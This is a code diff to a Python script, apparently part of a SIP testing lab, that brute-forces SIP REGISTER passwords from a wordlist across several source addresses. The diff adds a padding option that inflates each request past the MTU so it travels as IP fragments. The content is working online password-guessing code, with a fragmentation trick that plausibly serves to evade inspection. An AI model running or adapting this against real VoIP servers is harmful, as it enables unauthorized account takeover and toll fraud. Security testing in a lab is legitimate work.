@@ -26,11 +26,20 @@ p.add_argument("--rate", type=float, default=5.0, help="guesses per second (all 
 p.add_argument("--wait", type=float, default=2.0, help="how long each step waits for its answer")
 p.add_argument("--max-time", type=float, default=120.0)
 p.add_argument("--ua", default=siplab.PHONE_UA)
+p.add_argument("--pad", type=int, default=0,
+               help="about this many bytes of X-Pad header lines in every request (past the MTU: IP fragments)")
 a = p.parse_args()
 srcs = [s for s in a.src.split(",") if s]
 words = [w.strip() for w in open(a.dict) if w.strip()][: a.count]
 if not srcs or not (0 < a.count <= 10000 and 0 < a.rate <= 1000 and 0 < a.max_time <= 3600):
     sys.exit("guess.py: --src non-empty, --count 1..10000, --rate 0..1000, --max-time 0..3600")
+
+pad = b"X-Pad: " + b"p" * min(a.pad, 4000) + b"\r\n" if a.pad > 0 else b""
+
+
+def padded(msg):
+    return msg.replace(b"\r\nContent-Length:", b"\r\n" + pad + b"Content-Length:", 1) if pad else msg
+
 
 r = siplab.Reactor()
 dst_host = siplab.host_of(a.dst)
@@ -62,7 +71,7 @@ def on_datagram(sock, data):
         msg = siplab.request("REGISTER", uri, a.user, a.dst, g["src"], a.sport, g["cid"], cseq=2, tag=g["tag"],
                              auth=auth, ua=a.ua)
         stats["creds"] += 1
-        sock.sendto(msg, (a.dst, a.dport))
+        sock.sendto(padded(msg), (a.dst, a.dport))
         r.at(time.monotonic() + a.wait, lambda: finish(g, "no answer to credentials") if g["step"] == 2 else None)
         return
     if g["step"] == 2:
@@ -83,7 +92,7 @@ def guess(j):
     pending[g["cid"]] = g
     stats["guesses"] += 1
     msg = siplab.request("REGISTER", uri, a.user, a.dst, src, a.sport, g["cid"], tag=g["tag"], ua=a.ua)
-    socks[src].sendto(msg, (a.dst, a.dport))
+    socks[src].sendto(padded(msg), (a.dst, a.dport))
     r.at(time.monotonic() + a.wait, lambda: finish(g, "no challenge") if g["step"] == 1 else None)
 
 
